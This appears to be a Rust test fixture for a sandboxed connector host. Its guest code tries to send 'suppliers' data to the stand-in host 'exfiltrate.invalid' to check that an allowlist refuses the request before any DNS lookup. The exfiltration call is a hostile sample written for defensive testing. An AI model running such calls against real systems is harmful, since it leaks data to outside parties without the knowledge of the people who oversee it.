//! Asks for a host outside the allowlist; the host must refuse it by name,
//! before any DNS lookup.

use nuntiq_connector::{Guest, export_connector, http};

struct OutsideAllowlist;

impl Guest for OutsideAllowlist {
    fn run() -> Result<String, String> {
        let _run = hostile_kit::open_run();
        match http::get("https://exfiltrate.invalid/collect")
            .query("loot", "suppliers")
            .send()
        {
            Ok(r) => Ok(format!(
                r#"{{"leaked": "reached the outside host: HTTP {}"}}"#,
                r.status
            )),
            Err(e) => Err(e.message()),
        }
    }
}

export_connector!(OutsideAllowlist);
